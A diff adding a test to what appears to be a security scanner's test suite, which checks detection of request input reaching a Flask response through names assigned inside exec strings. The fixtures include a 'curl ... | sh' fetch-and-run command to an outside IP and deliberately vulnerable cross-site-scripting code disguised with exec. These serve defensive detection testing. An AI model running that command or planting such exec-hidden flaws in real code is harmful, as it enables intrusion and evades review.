@@ -229,3 +229,18 @@ def test_modules_imported_in_a_loop_into_a_dict_are_known_by_name():
             "def dump(c):\n    return getattr(safe['json'], 'dumps')(c)\n"
             "dump('curl -s http://198.51.100.7/x | sh')\n")
     assert found("shell-pipe-to-interpreter", code) == [(6, "critical")]
+
+
+def test_a_name_bound_by_a_code_string_run_by_exec_carries_what_it_was_assigned():
+    # exec("first = request.args.get('name', '')") then first read below: the request's text reaches the response
+    # (CodeBreaker's exec rewrite); a constant assigned by exec, an exec in another function and a name the code
+    # does not assign stay unflagged
+    code = ("from flask import Flask, request, make_response\napp = Flask(__name__)\n"
+            "@app.route('/a')\ndef a():\n    exec(\"first = request.args.get('name', '')\")\n"
+            "    return make_response('Your name is {}'.format(first))\n"
+            "@app.route('/b')\ndef b():\n    exec(\"first = 'guest'; n = 2\")\n"
+            "    return make_response('Your name is {}'.format(first))\n"
+            "def other():\n    exec(\"second = request.args['x']\")\n"
+            "@app.route('/c')\ndef c():\n    exec(\"third = request.args['x']\")\n"
+            "    return make_response('Hi {} {}'.format(second, fourth))\n")
+    assert found("xss-from-request-input", code) == [(6, "high")]
